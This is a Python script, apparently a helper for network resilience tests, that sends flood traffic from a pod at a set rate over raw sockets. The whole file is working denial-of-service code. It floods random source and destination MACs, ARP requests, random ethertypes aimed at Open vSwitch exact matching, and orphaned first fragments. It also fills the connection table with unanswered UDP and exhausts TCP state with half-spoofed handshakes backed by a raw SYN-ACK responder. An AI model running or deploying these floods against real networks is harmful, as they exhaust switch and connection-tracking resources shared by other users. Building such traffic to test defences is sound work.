"""What an attacker's pod puts on its wire: `frames.py KIND SECONDS SOURCE TARGET RATE`.

A script for a pod's namespace: the standard library alone. SOURCE and TARGET are IPv4 addresses; it
prints `ready` and then sends, at most RATE frames a second, for so many seconds.
"""

import random
import socket
import struct
import sys
import time
from collections.abc import Callable

ROUTER = bytes.fromhex("0a58a9fe0101")
IPV4, ARP = b"\x08\x00", b"\x08\x06"
UDP, TCP = 17, 6
SYN, ACK = 0x02, 0x10
OURS, THEIRS = 1_000, 2_000
"""Sequence numbers that both sides of `handshakes` begin with."""
BATCH = 50
"""Frames between two looks at the clock."""
Random = random.Random


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(
    source: bytes,
    target: bytes,
    payload: bytes,
    *,
    number: int = 1,
    fragment: int = 0,
    protocol: int = UDP,
) -> bytes:
    """An IPv4 packet; `fragment` is the word of flags and offset."""
    length = 20 + len(payload)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, length, number, fragment, 64, protocol, 0, source, target
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def datagram(source_port: int, port: int, size: int = 4) -> bytes:
    """UDP without a checksum."""
    return struct.pack("!HHHH", source_port, port, 8 + size, 0) + bytes(size)


def segment(
    source: bytes, target: bytes, ports: tuple[int, int], numbers: tuple[int, int], flags: int
) -> bytes:
    """An IPv4 packet with a TCP segment; `numbers` are its sequence and acknowledgement."""
    head = struct.pack("!HHIIBBHHH", *ports, *numbers, 0x50, flags, 65_535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, TCP, len(head))
    whole = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    return packet(source, target, whole, protocol=TCP)


def answer(seconds: float) -> None:
    """Answer every SYN: the other half of `handshakes`, without the kernel and its memory."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as raw:
        raw.bind(("eth0", 0x0800))
        raw.settimeout(1)
        mac = raw.getsockname()[4]
        print("ready", flush=True)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                frame, address = raw.recvfrom(2048)
            except TimeoutError:
                continue
            if address[2] == socket.PACKET_OUTGOING or frame[23] != TCP or frame[47] != SYN:
                continue
            source, target = frame[26:30], frame[30:34]
            ports = struct.unpack("!HH", frame[34:38])
            said = segment(target, source, ports[::-1], (THEIRS, OURS + 1), SYN | ACK)
            raw.send(ROUTER + mac + IPV4 + said)


def handshakes(seconds: float, source: str, target: str, rate: float) -> None:
    """Open TCP connections with `answer` that both sides then leave alone."""
    ends = socket.inet_aton(source), socket.inet_aton(target)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        head = ROUTER + raw.getsockname()[4] + IPV4
        print("ready", flush=True)
        end, port, batch = time.monotonic() + seconds, 0, int(rate / 10)
        while time.monotonic() < end:
            began = time.monotonic()
            opened = [divmod(port + number, 60_000) for number in range(batch)]
            ports = [(1_024 + source_port, 1_024 + at) for at, source_port in opened]
            for pair in ports:
                raw.send(head + segment(*ends, pair, (OURS, 0), SYN))
            time.sleep(0.05)  # for the answers
            for pair in ports:
                raw.send(head + segment(*ends, pair, (OURS + 1, THEIRS + 1), ACK))
            port += batch
            time.sleep(max(0.0, began + 0.1 - time.monotonic()))


def source_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """Each from another source MAC, most of which begin as the node's do."""
    invented = b"\x02" + made.randbytes(5)
    del mac
    return ROUTER + invented + IPV4 + packet(source, target, datagram(5000, 9))


def destination_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """Each to another destination MAC."""
    invented = b"\x02" + made.randbytes(5)
    return invented + mac + IPV4 + packet(source, target, datagram(5000, 9))


def arp_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """ARP requests, each to another destination MAC."""
    del target
    request = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + source + bytes(6)
    return b"\x02" + made.randbytes(5) + mac + ARP + request + bytes([169, 254, 1, 1])


def ethertypes(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """Each of another protocol, which Open vSwitch always matches exactly."""
    del source, target
    return ROUTER + mac + struct.pack("!H", made.randrange(0x0900, 0xFFFF)) + bytes(46)


def first_fragments(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """First fragments, of which no second one follows."""
    more = 0x2000
    fragment = packet(
        source, target, datagram(5000, 9, 1392), number=made.randrange(65536), fragment=more
    )
    return ROUTER + mac + IPV4 + fragment


def connections(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """UDP, each datagram a new connection that nobody answers."""
    ports = made.randrange(1024, 65536), made.randrange(10_000, 65536)
    return ROUTER + mac + IPV4 + packet(source, target, datagram(*ports))


KINDS: dict[str, Callable[[bytes, bytes, bytes, Random], bytes]] = {
    "source-macs": source_macs,
    "destination-macs": destination_macs,
    "arp-macs": arp_macs,
    "ethertypes": ethertypes,
    "first-fragments": first_fragments,
    "connections": connections,
}


def send(kind: str, seconds: float, source: str, target: str, rate: float) -> None:
    made = Random(1)
    make = KINDS[kind]
    ends = socket.inet_aton(source), socket.inet_aton(target)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        mac = raw.getsockname()[4]
        frames = [make(mac, *ends, made) for _ in range(20_000)]
        print("ready", flush=True)
        began, sent = time.monotonic(), 0
        while (passed := time.monotonic() - began) < seconds:
            if sent > passed * rate:
                time.sleep(0.001)
                continue
            for _ in range(BATCH):
                raw.send(frames[sent % len(frames)])
                sent += 1
    print(sent, flush=True)


if __name__ == "__main__":
    kind, seconds, *rest = sys.argv[1:]
    if kind == "answer":
        answer(float(seconds))
    elif kind == "handshakes":
        handshakes(float(seconds), rest[0], rest[1], float(rest[2]))
    else:
        send(kind, float(seconds), rest[0], rest[1], float(rest[2]))
